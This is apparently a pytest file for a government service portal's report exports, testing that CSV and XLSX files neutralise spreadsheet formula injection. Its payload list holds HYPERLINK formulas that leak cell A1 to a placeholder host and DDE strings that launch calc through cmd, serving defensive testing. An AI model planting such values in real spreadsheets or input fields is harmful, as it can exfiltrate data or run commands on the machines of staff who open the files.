"""Spreadsheet formula injection: names from the public reach the office's Excel as text only."""

import csv
import io

import openpyxl
import pytest

from cases.models import Person
from sop_portal.spreadsheets import neutralise

PAYLOADS = [
    '==HYPERLINK("http://x/?"&A1,"klik")',
    '=HYPERLINK("http://x/?"&A1,"klik")',
    '+HYPERLINK("http://x/?"&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]


def export_with_applicant_named(client, demo_users, registered, name, fmt):
    Person.objects.filter(pk=registered.applicant_id).update(name=name)
    client.force_login(demo_users["lumajang-kabid"])
    response = client.get(f"/laporan/ekspor/permohonan.{fmt}")
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_name_is_neutralised_in_the_csv(client, demo_users, registered, payload):
    content = export_with_applicant_named(client, demo_users, registered, payload, "csv")

    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))

    assert rows[0]["Pemohon"] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_name_is_a_string_cell_in_the_xlsx(client, demo_users, registered, payload):
    content = export_with_applicant_named(client, demo_users, registered, payload, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Pemohon") + 1)

    assert cell.data_type == "s"
    # The standard XML parser reads a carriage return as a line feed; defusedxml's keeps it.
    assert cell.value in (payload, payload.replace("\r", "\n"))


def test_no_cell_of_the_xlsx_is_a_formula(client, demo_users, registered):
    content = export_with_applicant_named(client, demo_users, registered, "==1+1", "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}

    assert types and "f" not in types


def test_an_ordinary_name_is_exported_unchanged(client, demo_users, registered):
    content = export_with_applicant_named(client, demo_users, registered, "Siti Aminah - Lansia", "csv")

    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))

    assert rows[0]["Pemohon"] == "Siti Aminah - Lansia"


def test_a_negative_number_is_not_treated_as_a_formula():
    assert neutralise("-2.5") == "-2.5"
    assert neutralise(-2.5) == -2.5


def test_the_step_export_neutralises_an_activity_formula(client, demo_users, registered):
    step = registered.steps.first()
    assert step is not None
    type(step.sop_step).objects.filter(pk=step.sop_step_id).update(activity="=cmd|' /C calc'!A0")
    client.force_login(demo_users["lumajang-kabid"])

    rows = list(csv.DictReader(io.StringIO(client.get("/laporan/ekspor/langkah.csv").content.decode("utf-8-sig"))))

    assert rows, "the step export is empty"
    assert all(not row["Kegiatan"].startswith("=") for row in rows)
    assert "'=cmd|' /C calc'!A0" in {row["Kegiatan"] for row in rows}
